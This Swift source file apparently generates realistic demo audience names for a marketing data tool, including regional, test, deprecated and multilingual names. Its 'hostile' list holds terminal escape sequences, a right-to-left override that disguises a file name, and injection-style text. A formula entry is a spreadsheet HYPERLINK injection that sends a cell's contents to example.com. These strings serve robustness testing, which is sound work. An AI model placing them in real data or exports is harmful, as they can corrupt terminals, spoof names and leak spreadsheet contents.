// Names as a real company gives them: prefixes, regions, versions, leftovers of tests, other scripts, and three that were
// made to break terminals, plan files and spreadsheets.

extension DemoKind {
    /// The name of the `ordinal`-th audience of this kind; different for every ordinal.
    func name(_ ordinal: Int, activity: DemoActivity) -> String {
        switch self {
        case .vip:
            DemoKind.pair(
                ordinal,
                [
                    "VIP – Spring promo", "VIP – Black Friday early access", "VIP – Gold tier",
                    "VIP – Platinum tier", "VIP – Private sale", "VIP – Birthday month",
                ], DemoKind.regions, " ")
        case .legalHold:
            DemoKind.pair(
                ordinal,
                [
                    "Legal hold – case", "Legal hold – do not contact", "Legal – GDPR objections",
                    "Legal – minors",
                ], ["2024-017", "2025-003", "DE", "FR", "2025-112", "UK"], " ")
        case .oldCampaign:
            DemoKind.pair(
                ordinal,
                [
                    "Q1 2024 – Newsletter", "Q2 2024 – Summer sale", "Q3 2024 – Back to school",
                    "Q4 2024 – Black Friday", "Q3 2024 – App launch", "Q2 2024 – Webinar",
                ], DemoKind.regions, " ")
        case .currentCampaign:
            DemoKind.pair(
                ordinal,
                [
                    "Spring promo", "Summer essentials", "App reinstall push", "Loyalty double points",
                    "Referral drive",
                ], DemoKind.regions, " – ")
        case .test:
            DemoKind.pair(
                ordinal,
                [
                    "test – checkout", "TEST_old_import", "test delete me", "zz test copy of VIP",
                    "Test audience", "TEST_old_webhook", "qa test do not use",
                ],
                ["v2", "(jan)", "2", "final", "final FINAL", "new"], " ")
        case .deprecated:
            DemoKind.pair(
                ordinal, ["[DEPRECATED] Cart abandoners", "[DEPRECATED] Newsletter", "[DEPRECATED] Churn risk"],
                ["v1", "v2", "(use lifecycle)", "old pixel"], " ")
        case .lookalike:
            DemoKind.pair(
                ordinal,
                [
                    "Lookalike 1% – High LTV", "Lookalike 3% – Purchasers", "Lookalike 5% – App users",
                    "Lookalike 1% – Subscribers",
                ], DemoKind.regions, " ")
        case .failing:
            DemoKind.pair(
                ordinal, ["Churn risk score > 0.8", "Predicted LTV top decile", "Support tickets > 3"],
                DemoKind.regions, " ")
        case .lifecycle:
            DemoKind.pair(
                ordinal,
                [
                    "Cart abandoners 7d", "Newsletter subscribers", "First purchase last 30d",
                    "Repeat buyers", "Dormant 60d", "Wishlist, no order", "Free trial day 3", "Free trial expired",
                    "Viewed pricing twice", "Onboarding incomplete", "App users without push", "Email bounced",
                ],
                DemoKind.regions, " – ")
        case .international:
            DemoKind.numbered(ordinal, DemoKind.worldNames)
        case .hostile:
            DemoKind.numbered(ordinal, activity == .live ? DemoKind.formulaNames : DemoKind.hostileNames)
        case .account:
            DemoKind.pair(
                ordinal, ["Accounts – Enterprise", "Accounts – Expansion ready", "Accounts – Renewal in 90d"],
                ["EMEA", "AMER", "APAC"], " ")
        }
    }

    private static let regions = ["US", "DE", "EMEA", "UK & IE", "FR", "APAC", "LATAM"]

    private static let worldNames = [
        "新規会員 – 30日以内", "Kundinnen & Kunden – Österreich", "Клиенты без покупок 60 дней", "🔥 Hot leads",
        "عملاء الرياض", "고객 재구매 30일", "🎄 Holiday shoppers", "👩‍👩‍👧‍👦 Family plan", "Cafe\u{301} crème – Zürich",
        "Compradores – España y México", "हिन्दी ग्राहक", "ลูกค้าใหม่", "活跃用户（七天）",
    ]

    /// Escape sequences and bidi controls; quotes, braces and line ends.
    private static let hostileNames = [
        "TEST_old_\u{1b}[2J\u{1b}[31mpwned\u{1b}[0m\u{7}\u{202e}gpj.tset\u{2066}\u{2028}\u{9b}31m\u{7f}",
        "test \"quoted\" {1 + 1} \\ 'x'\nremove(\"everything\") # \r\t",
    ]

    private static let formulaNames = ["=HYPERLINK(\"https://example.com/?x=\"&A1,\"Open\")"]

    /// Every pair of a name and an addition occurs once before a number is appended.
    private static func pair(_ ordinal: Int, _ names: [String], _ additions: [String], _ separator: String) -> String {
        let round = ordinal / names.count
        let addition = additions[(ordinal % names.count * 3 + round) % additions.count]
        let repetition = round / additions.count
        return names[ordinal % names.count] + separator + addition + (repetition > 0 ? " #\(repetition + 1)" : "")
    }

    private static func numbered(_ ordinal: Int, _ names: [String]) -> String {
        let round = ordinal / names.count
        return names[ordinal % names.count] + (round > 0 ? " #\(round + 1)" : "")
    }
}
